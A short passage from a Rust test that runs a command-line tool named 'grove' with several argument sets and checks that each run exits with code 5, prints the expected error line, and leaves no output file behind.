            out.to_str().unwrap(),
        ],
    ] {
        let run = grove(&root, &args);
        assert_eq!(run.status.code(), Some(5), "{args:?}: {}", describe(&run));
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert_eq!(stderr.lines().next(), Some(expected.as_str()), "{args:?}");
        assert!(!out.exists(), "{args:?}");
    }
}
